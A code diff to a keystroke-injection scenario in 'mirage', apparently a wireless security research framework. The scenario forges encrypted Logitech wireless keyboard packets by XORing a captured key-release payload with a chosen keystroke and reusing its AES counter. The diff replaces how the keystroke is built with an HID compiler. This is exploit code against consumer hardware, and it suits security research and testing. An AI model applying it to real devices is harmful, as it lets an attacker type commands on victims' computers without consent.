@@ -1,12 +1,12 @@
 from mirage.core import scenario
 from mirage.libs import io,esb,utils,wireless
-from mirage.libs.common import parsers
+from mirage.libs.common import parsers,hid
 from threading import Lock
 
 class logitech_encrypted_keystrokes_injection(scenario.Scenario):
 	def addLogitechKeystroke(self,locale="fr",key="a",ctrl=False, alt=False, gui=False,shift=False):
 		keystrokes = []
-		keystrokeUnencryptedPayload = esb.LogitechKeystroke(locale=locale,key=key,ctrl=ctrl,alt=alt,gui=gui,shift=shift).data
+		keystrokeUnencryptedPayload = self.compiler.compileKey(key=key,ctrl=ctrl,alt=alt,gui=gui,shift=shift)[1][0]
 		forgedPayload = bytes([self.lastKeyRelease.hidData[i] ^ keystrokeUnencryptedPayload[i] for i in range(len(self.lastKeyRelease.hidData))])
 		io.info("Forged payload: "+forgedPayload.hex())
 		keystrokes.append(esb.ESBLogitechEncryptedKeystrokePacket(address=self.target,aesCounter=self.lastKeyRelease.aesCounter,unknown=self.lastKeyRelease.unknown,hidData = forgedPayload))
@@ -54,6 +54,7 @@ class logitech_encrypted_keystrokes_injection(scenario.Scenario):
 		self.receiver = self.module.receiver
 		self.target = utils.addressArg(self.module.target)
 		self.lock = Lock()
+		self.compiler = hid.HIDCompiler(locale="fr",protocol="logitech")
 		self.mode = None
 
 		self.lastKeyPress = None